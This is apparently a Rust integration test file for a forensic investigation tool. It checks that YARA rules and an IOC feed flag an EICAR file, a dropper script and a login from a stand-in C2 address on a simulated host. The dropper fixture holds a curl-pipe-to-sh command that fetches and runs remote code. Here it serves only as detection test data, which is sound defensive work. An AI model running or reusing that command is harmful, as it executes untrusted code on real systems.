//! YARA over collected files and IOC feeds over events and files, from `riposte
//! investigate` and from the durable pipeline (`riposte serve`'s workers).
//!
//! The YARA rule is signature-base's real `SUSP_Just_EICAR` (bundled in
//! `detections/yara`, DRL 1.1) and the file the corpus' EICAR test file; the IOC feed is
//! a CSV written here naming the SHA-256 of a dropped script (computed by the test) and an
//! address that appears in the host's auth.log.

mod common;

use common::{corpus, investigate, post_secdo, serve_in_process, wait_for_investigation};
use riposte_store::testing::both;
use riposte_store::{BlobStore, Role, Store};
use riposte_worker::{Worker, WorkerConfig};
use serde_json::Value;
use sha2::{Digest, Sha256};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::time::Duration;

const EICAR_SHA256: &str = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";
const C2_IP: &str = "203.0.113.77";
const DROPPER: &[u8] = b"#!/bin/sh\ncd /dev/shm && curl -s http://203.0.113.77/k | sh\n";

fn bundled_yara() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../detections/yara")
}

/// A rule folder holding only signature-base's file with the EICAR rule.
fn eicar_rules(dir: &Path) -> PathBuf {
    let rules = dir.join("yara-rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::copy(
        bundled_yara().join("signature-base/yara/gen_suspicious_strings.yar"),
        rules.join("gen_suspicious_strings.yar"),
    )
    .unwrap();
    rules
}

/// A host laid out like its root filesystem: a login from the C2 address in auth.log, the
/// EICAR file dropped in /tmp, a dropper script in /dev/shm.
fn host(dir: &Path) -> PathBuf {
    let root = dir.join("web-1");
    for sub in ["var/log", "tmp/.x", "dev/shm", "etc"] {
        std::fs::create_dir_all(root.join(sub)).unwrap();
    }
    std::fs::write(root.join("etc/hostname"), "web-1\n").unwrap();
    std::fs::write(
        root.join("var/log/auth.log"),
        format!(
            "Mar  3 10:00:01 web-1 sshd[811]: Accepted publickey for deploy from 10.0.0.4 port 50022 ssh2\n\
             Mar  3 10:02:17 web-1 sshd[902]: Accepted password for deploy from {C2_IP} port 41234 ssh2\n"
        ),
    )
    .unwrap();
    std::fs::copy(
        corpus().join("yara/eicar.com"),
        root.join("tmp/.x/eicar.com"),
    )
    .unwrap();
    std::fs::write(root.join("dev/shm/k.sh"), DROPPER).unwrap();
    root
}

fn feed(dir: &Path) -> PathBuf {
    let path = dir.join("feed.csv");
    let dropper = hex::encode(Sha256::digest(DROPPER));
    std::fs::write(
        &path,
        format!(
            "type,value,description,severity\nsha256,{dropper},dropper of campaign X,critical\nip,{C2_IP},C2 of campaign X,high\n"
        ),
    )
    .unwrap();
    path
}

fn alarms_by<'a>(report: &'a Value, detector: &str) -> Vec<&'a Value> {
    report["alarms"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["detector"] == detector)
        .collect()
}

fn assert_eicar_alarm(alarms: &[&Value]) {
    let eicar = alarms
        .iter()
        .find(|a| {
            a["rule_id"]
                .as_str()
                .is_some_and(|r| r.ends_with(":SUSP_Just_EICAR"))
        })
        .unwrap_or_else(|| panic!("no EICAR alarm in {alarms:#?}"));
    let file = &eicar["files"][0];
    assert_eq!(file["path"], "/tmp/.x/eicar.com", "{eicar:#}");
    assert_eq!(file["sha256"], EICAR_SHA256);
    assert!(
        file["matched"][0].as_str().unwrap().starts_with("$s1 at 0"),
        "{eicar:#}"
    );
}

#[test]
fn investigate_scans_collected_files_with_yara_and_matches_ioc_feeds() {
    let tmp = tempfile::tempdir().unwrap();
    let rules = eicar_rules(tmp.path());
    let cache = tmp.path().join("cache");
    let report = investigate(
        &host(tmp.path()),
        &[
            "--no-bundled-sigma",
            "--no-bundled-yara",
            "--yara-rules",
            rules.to_str().unwrap(),
            "--yara-cache",
            cache.to_str().unwrap(),
            "--ioc",
            feed(tmp.path()).to_str().unwrap(),
        ],
    );
    assert_eicar_alarm(&alarms_by(&report, "yara"));

    let iocs = alarms_by(&report, "ioc");
    let dropper = hex::encode(Sha256::digest(DROPPER));
    let by_hash = iocs
        .iter()
        .find(|a| a["rule_id"] == dropper.as_str())
        .unwrap_or_else(|| panic!("no dropper hash alarm in {iocs:#?}"));
    assert_eq!(by_hash["severity"], "critical");
    assert_eq!(by_hash["files"][0]["path"], "/dev/shm/k.sh");
    let by_ip = iocs
        .iter()
        .find(|a| a["rule_id"] == format!("{C2_IP}/32").as_str())
        .unwrap_or_else(|| panic!("no C2 address alarm in {iocs:#?}"));
    assert_eq!(
        by_ip["event_refs"].as_array().unwrap().len(),
        1,
        "only the login from the C2 address: {by_ip:#}"
    );
    assert_eq!(
        report["verdict"]["verdict"],
        "Malicious Activity Identified"
    );
    assert!(
        std::fs::read_dir(&cache).unwrap().any(|e| e
            .unwrap()
            .path()
            .extension()
            .is_some_and(|x| x == "yarac")),
        "the compiled rules are cached"
    );
}

#[test]
fn the_bundled_yara_rules_run_by_default() {
    let tmp = tempfile::tempdir().unwrap();
    // Shared between runs of the suite: the bundled set compiles once per rules change.
    let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("yara-cache");
    let report = investigate(
        &host(tmp.path()),
        &[
            "--no-bundled-sigma",
            "--yara-cache",
            cache.to_str().unwrap(),
        ],
    );
    assert_eicar_alarm(&alarms_by(&report, "yara"));
    // The auth.log and the dropper are not what signature-base's rules are about.
    for alarm in alarms_by(&report, "yara") {
        let path = alarm["files"][0]["path"].as_str().unwrap();
        assert_ne!(path, "/var/log/auth.log", "{alarm:#}");
    }
}

#[test]
fn bad_yara_folders_and_ioc_feeds_are_refused_with_what_to_do() {
    let tmp = tempfile::tempdir().unwrap();
    let root = host(tmp.path());
    let run = |extra: &[&str]| {
        let out = Command::new(env!("CARGO_BIN_EXE_riposte"))
            .args(["investigate", "--no-bundled-sigma", "--no-bundled-yara"])
            .args(extra)
            .arg(&root)
            .output()
            .unwrap();
        assert!(!out.status.success(), "{extra:?} must fail");
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    let missing = tmp.path().join("no-such-rules");
    let err = run(&["--yara-rules", missing.to_str().unwrap()]);
    assert!(err.contains("no-such-rules"), "{err}");

    let empty = tmp.path().join("empty.txt");
    std::fs::write(&empty, "\n# nothing\n").unwrap();
    let err = run(&["--ioc", empty.to_str().unwrap()]);
    assert!(err.contains("empty.txt"), "{err}");

    let junk = tmp.path().join("junk.json");
    std::fs::write(&junk, "{ not json").unwrap();
    let err = run(&["--ioc", &format!("stix:{}", junk.display())]);
    assert!(err.contains("junk.json"), "{err}");
}

#[tokio::test]
async fn the_pipeline_scans_evidence_with_yara_and_iocs() {
    let tmp = tempfile::tempdir().unwrap();
    let rules_dir = eicar_rules(tmp.path());
    let config = riposte_yara::YaraConfig {
        rule_dirs: vec![rules_dir],
        ..riposte_yara::YaraConfig::default()
    };
    let (rules, _) = riposte_yara::RuleSet::compile(&config).unwrap();
    let feed = std::fs::read(feed(tmp.path())).unwrap();
    let import = riposte_detect::ioc::importer("csv")
        .unwrap()
        .import(&feed, "feed.csv")
        .unwrap();
    let iocs = riposte_detect::IocDetector::new(
        Arc::new(riposte_detect::IocSet::new(import.indicators)),
        riposte_detect::IocDetectorConfig::default(),
    );
    let engine = Arc::new(
        riposte_detect::DetectionEngine::new()
            .with(iocs.clone())
            .with_files(iocs)
            .with_files(riposte_yara::YaraDetector::new(Arc::new(rules))),
    );
    for db in both().await {
        eprintln!("backend: {}", db.name());
        let lib_dir = tempfile::tempdir().unwrap();
        let lib = lib_dir.path().join("library");
        std::fs::create_dir_all(&lib).unwrap();
        let root = host(lib_dir.path());
        std::fs::rename(&root, lib.join("web-1")).unwrap();
        // The alert names the host by its address.
        std::fs::create_dir_all(lib.join("web-1/etc/sysconfig/network-scripts")).unwrap();
        std::fs::write(
            lib.join("web-1/etc/sysconfig/network-scripts/ifcfg-eth0"),
            "DEVICE=eth0\nIPADDR=10.30.0.7\n",
        )
        .unwrap();
        let store: Store = db.store().clone();
        let config = WorkerConfig {
            evidence_roots: riposte_rules::EvidenceRoots::new([lib_dir.path().to_path_buf()]),
            poll_interval: Duration::from_millis(50),
            detection: engine.clone(),
            ..WorkerConfig::default()
        };
        assert!(
            riposte_worker::bootstrap::evidence_library_defaults(&store, &lib)
                .await
                .unwrap()
        );
        let blobs = BlobStore::local(&lib_dir.path().join("evidence")).unwrap();
        let (stop, rx) = tokio::sync::watch::channel(false);
        tokio::spawn(Worker::new(store.clone(), blobs, config).run(rx));
        let base = serve_in_process(store.clone()).await;
        let http = reqwest::Client::new();
        let (_, key) = store.create_api_key("t", Role::Analyst).await.unwrap();
        let alert = post_secdo(&http, &base, &key, "10.30.0.7", "web-1").await;
        let d = wait_for_investigation(&http, &base, &key, &alert).await;
        assert_eq!(d["investigation"]["status"], "complete", "{d:#}");
        let report = serde_json::json!({"alarms": d["alarms"]});
        assert_eicar_alarm(&alarms_by(&report, "yara"));
        let iocs = alarms_by(&report, "ioc");
        let dropper = hex::encode(Sha256::digest(DROPPER));
        assert!(
            iocs.iter()
                .any(|a| a["rule_id"] == dropper.as_str()
                    && a["files"][0]["path"] == "/dev/shm/k.sh"),
            "{iocs:#?}"
        );
        assert!(
            iocs.iter()
                .any(|a| a["rule_id"] == format!("{C2_IP}/32").as_str()),
            "{iocs:#?}"
        );
        assert_eq!(
            d["investigation"]["verdict"]["verdict"],
            "Malicious Activity Identified"
        );
        // The story is stored with the alarms: the C2 login is in the scope.
        let ips = d["story"]["scope"]["ips"].as_array().unwrap();
        assert!(ips.iter().any(|i| i["ip"] == C2_IP), "{:#}", d["story"]);
        stop.send(true).unwrap();
    }
}
